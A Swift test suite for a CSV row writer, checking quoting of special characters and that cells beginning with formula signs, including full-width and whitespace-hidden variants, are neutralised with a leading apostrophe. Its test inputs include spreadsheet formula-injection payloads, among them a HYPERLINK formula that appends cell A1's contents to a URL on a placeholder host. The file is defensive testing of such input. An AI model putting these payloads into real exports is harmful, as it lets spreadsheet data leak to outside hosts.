import Testing

@testable import Reporting

@Suite struct CSVRowTests {
    @Test(arguments: [
        (["a", "b"], "a,b\r\n"), ([""], "\r\n"), (["a,b", "c\"d"], "\"a,b\",\"c\"\"d\"\r\n"),
        (["line\nend"], "\"line\nend\"\r\n"),
    ])
    func quotesWhatNeedsIt(_ cells: [String], _ row: String) { #expect(CSVRow(cells).text == row) }

    /// What a spreadsheet would run is text to it, wherever its sign is hidden.
    @Test(arguments: [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1", "  =1", "\u{3000}=1", "\u{FEFF}=1",
        "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
    ])
    func noCellIsAFormula(_ cell: String) {
        let text = CSVRow([cell]).text
        #expect(text.hasPrefix("\"'"), "\(text)")
    }

    @Test func signsAmidTextStay() { #expect(CSVRow(["2+2=4", "a@b"]).text == "2+2=4,a@b\r\n") }
}
